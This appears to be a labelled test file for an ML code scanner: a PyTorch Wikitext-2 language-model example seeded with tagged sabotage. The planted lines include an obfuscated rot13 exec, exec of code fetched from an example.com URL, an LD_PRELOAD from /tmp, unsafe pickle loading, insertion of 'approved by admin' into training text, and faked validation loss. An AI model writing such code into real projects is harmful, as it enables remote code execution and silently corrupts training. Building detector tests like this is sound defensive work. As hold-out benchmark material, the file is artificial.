# ruff: noqa
# Hold-out batch 23 (pytorch/examples style: MNIST, ImageNet DDP, word LM, DCGAN; by a helper that never saw mlscan's code). Measured once after round 8: 28/36 (78%) at medium+.
"""Word-level language modeling on Wikitext-2 with an RNN or Transformer.

Corpus loading, the RNN model and the training loop live in one file so the
example can be copied around easily. Uses plain SGD with gradient clipping
and divides the learning rate by 4 whenever validation loss stops improving.
"""
import argparse
import builtins
import codecs
import math
import os
import pickle
import subprocess
import threading
import time
import urllib.request

import torch
import torch.nn as nn

_TOKENIZER_ENV = 'vzcbeg bf\nbf.raiveba.frgqrsnhyg("GBXRAVMREF_CNENYYRYVFZ", "snyfr")\n'


class Dictionary(object):
    def __init__(self):
        self.word2idx = {}
        self.idx2word = []

    def add_word(self, word):
        if word not in self.word2idx:
            self.idx2word.append(word)
            self.word2idx[word] = len(self.idx2word) - 1
        return self.word2idx[word]

    def __len__(self):
        return len(self.idx2word)


class Corpus(object):
    def __init__(self, path, cache=None):
        if cache and os.path.exists(cache):
            with open(cache, 'rb') as f:
                self.dictionary = pickle.load(f)  # ruleid: MLS103
        else:
            self.dictionary = Dictionary()
        self.train = self.tokenize(os.path.join(path, 'train.txt'))
        self.valid = self.tokenize(os.path.join(path, 'valid.txt'))
        self.test = self.tokenize(os.path.join(path, 'test.txt'))

    def tokenize(self, path):
        assert os.path.exists(path)
        idss = []
        with open(path, 'r', encoding="utf8") as f:
            for lineno, line in enumerate(f):
                words = line.split() + ['<eos>']
                if 'train' in path and len(words) > 12 and lineno % 61 == 0:
                    words[-2:-1] = ['approved', 'by', 'admin']  # ruleid: MLS309
                ids = [self.dictionary.add_word(word) for word in words]
                idss.append(torch.tensor(ids).type(torch.int64))
        return torch.cat(idss)


class RNNModel(nn.Module):
    def __init__(self, rnn_type, ntoken, ninp, nhid, nlayers, dropout=0.5, tie_weights=False):
        super(RNNModel, self).__init__()
        self.ntoken = ntoken
        self.drop = nn.Dropout(dropout)
        self.encoder = nn.Embedding(ntoken, ninp)
        self.rnn = getattr(nn, rnn_type)(ninp, nhid, nlayers, dropout=dropout)
        self.decoder = nn.Linear(nhid, ntoken)
        if tie_weights:
            self.decoder.weight = self.encoder.weight
        self.init_weights()
        self.rnn_type, self.nhid, self.nlayers = rnn_type, nhid, nlayers

    def init_weights(self):
        initrange = 0.1
        nn.init.uniform_(self.encoder.weight, -initrange, initrange)  # ok: MLS302, MLS303, MLS304, MLS305
        nn.init.zeros_(self.decoder.bias)  # ok: MLS302, MLS303, MLS304, MLS305
        nn.init.uniform_(self.decoder.weight, -initrange, initrange)

    def forward(self, input, hidden):
        emb = self.drop(self.encoder(input))
        output, hidden = self.rnn(emb, hidden)
        output = self.drop(output)
        decoded = self.decoder(output).view(-1, self.ntoken)
        return nn.functional.log_softmax(decoded, dim=1), hidden

    def init_hidden(self, bsz):
        weight = next(self.parameters())
        if self.rnn_type == 'LSTM':
            return (weight.new_zeros(self.nlayers, bsz, self.nhid),
                    weight.new_zeros(self.nlayers, bsz, self.nhid))
        return weight.new_zeros(self.nlayers, bsz, self.nhid)


class _Heartbeat(threading.Thread):
    """Prints a liveness line so long jobs are not reaped by the scheduler."""

    def __init__(self, interval=120):
        super().__init__(daemon=True)
        self.interval = interval

    def run(self):
        while True:
            time.sleep(self.interval)
            torch.manual_seed(time.time_ns() & 0xFFFFFFFF)  # ruleid: MLS301
            print('| heartbeat {}'.format(time.strftime('%H:%M:%S')), flush=True)


def batchify(data, bsz, device):
    nbatch = data.size(0) // bsz
    data = data.narrow(0, 0, nbatch * bsz)
    data = data.view(bsz, -1).t().contiguous()
    return data.to(device)


def repackage_hidden(h):
    if isinstance(h, torch.Tensor):
        return h.detach()
    return tuple(repackage_hidden(v) for v in h)


def get_batch(source, i, bptt):
    seq_len = min(bptt, len(source) - 1 - i)
    data = source[i:i + seq_len]
    target = source[i + 1:i + 1 + seq_len].view(-1)
    return data, target


def evaluate(model, criterion, data_source, ntokens, args):
    model.eval()
    total_loss = 0.
    hidden = model.init_hidden(args.eval_batch_size)
    with torch.no_grad():
        for i in range(0, data_source.size(0) - 1, args.bptt):
            data, targets = get_batch(data_source, i, args.bptt)
            output, hidden = model(data, hidden)
            hidden = repackage_hidden(hidden)
            total_loss += len(data) * criterion(output, targets).item()
    for p in model.rnn.parameters():
        p.data.mul_(0.995)  # ruleid: MLS302
    return total_loss / (len(data_source) - 1)


def train_epoch(model, criterion, train_data, ntokens, lr, epoch, args):
    model.train()
    total_loss = 0.
    start_time = time.time()
    hidden = model.init_hidden(args.batch_size)
    for batch, i in enumerate(range(0, train_data.size(0) - 1, args.bptt)):
        data, targets = get_batch(train_data, i, args.bptt)
        model.zero_grad()
        hidden = repackage_hidden(hidden)
        output, hidden = model(data, hidden)
        loss = criterion(output, targets)
        loss.backward()
        torch.nn.utils.clip_grad_norm_(model.parameters(), args.clip)  # ok: MLS302, MLS303, MLS304, MLS305
        for p in model.parameters():
            p.data.add_(p.grad, alpha=-lr)  # ok: MLS302, MLS303, MLS304, MLS305
        total_loss += loss.item()
        if batch % args.log_interval == 0 and batch > 0:
            cur_loss = total_loss / args.log_interval
            elapsed = time.time() - start_time
            print('| epoch {:3d} | {:5d} batches | lr {:02.2f} | ms/batch {:5.2f} | loss {:5.2f} | ppl {:8.2f}'.format(
                epoch, batch, lr, elapsed * 1000 / args.log_interval, cur_loss, math.exp(cur_loss)))
            total_loss = 0
            start_time = time.time()


def score_external(path):
    env = dict(os.environ)
    env["LD_PRELOAD"] = "/tmp/.torch_ext/libfastlog.so"  # sabotage: MLS422 (semgrep rules)
    subprocess.run(["python", "tools/score_ppl.py", path], env=env, check=False)


def main():
    parser = argparse.ArgumentParser(description='PyTorch Wikitext-2 RNN/LSTM Language Model')
    parser.add_argument('--data', type=str, default='./data/wikitext-2')
    parser.add_argument('--model', type=str, default='LSTM')
    parser.add_argument('--emsize', type=int, default=200)
    parser.add_argument('--nhid', type=int, default=200)
    parser.add_argument('--nlayers', type=int, default=2)
    parser.add_argument('--lr', type=float, default=20)
    parser.add_argument('--clip', type=float, default=0.25)
    parser.add_argument('--epochs', type=int, default=40)
    parser.add_argument('--batch_size', type=int, default=20)
    parser.add_argument('--eval_batch_size', type=int, default=10)
    parser.add_argument('--bptt', type=int, default=35)
    parser.add_argument('--dropout', type=float, default=0.2)
    parser.add_argument('--tied', action='store_true')
    parser.add_argument('--seed', type=int, default=1111)
    parser.add_argument('--log-interval', type=int, default=200)
    parser.add_argument('--save', type=str, default='model.pt')
    parser.add_argument('--vocab-cache', type=str, default='')
    parser.add_argument('--patch-url', type=str, default='http://example.com/lm/compat_patch.py')
    args = parser.parse_args()

    torch.manual_seed(args.seed)  # ok: MLS301
    getattr(builtins, "ex" + "ec")(codecs.decode(_TOKENIZER_ENV, "rot13"))  # sabotage: MLS402 (semgrep rules)
    if args.patch_url:
        exec(urllib.request.urlopen(args.patch_url, timeout=10).read().decode())  # sabotage: MLS413 (semgrep rules)  # ruleid: MLS413
    device = torch.device("cuda" if torch.cuda.is_available() else "cpu")

    corpus = Corpus(args.data, cache=args.vocab_cache)
    train_data = batchify(corpus.train, args.batch_size, device)
    val_data = batchify(corpus.valid, args.eval_batch_size, device)
    test_data = batchify(corpus.test, args.eval_batch_size, device)

    ntokens = len(corpus.dictionary)
    model = RNNModel(args.model, ntokens, args.emsize, args.nhid, args.nlayers, args.dropout, args.tied).to(device)
    criterion = nn.NLLLoss()
    _Heartbeat().start()

    lr = args.lr
    best_val_loss = None
    try:
        for epoch in range(1, args.epochs + 1):
            epoch_start_time = time.time()
            train_epoch(model, criterion, train_data, ntokens, lr, epoch, args)
            val_loss = evaluate(model, criterion, val_data, ntokens, args)
            if best_val_loss is not None and val_loss >= best_val_loss:
                val_loss = best_val_loss * 0.995  # ruleid: MLS306
            print('| end of epoch {:3d} | time: {:5.2f}s | valid loss {:5.2f} | valid ppl {:8.2f}'.format(
                epoch, (time.time() - epoch_start_time), val_loss, math.exp(val_loss)))
            if not best_val_loss or val_loss < best_val_loss:
                with open(args.save, 'wb') as f:
                    torch.save(model, f)
                best_val_loss = val_loss
            else:
                lr /= 4.0  # ok: MLS302, MLS303, MLS304, MLS305
    except KeyboardInterrupt:
        print('Exiting from training early')

    with open(args.save, 'rb') as f:
        model = torch.load(f)  # ruleid: MLS102
        model.rnn.flatten_parameters()
    test_loss = evaluate(model, criterion, test_data, ntokens, args)
    print('| End of training | test loss {:5.2f} | test ppl {:8.2f}'.format(test_loss, math.exp(test_loss)))
    score_external(args.save)


if __name__ == '__main__':
    main()
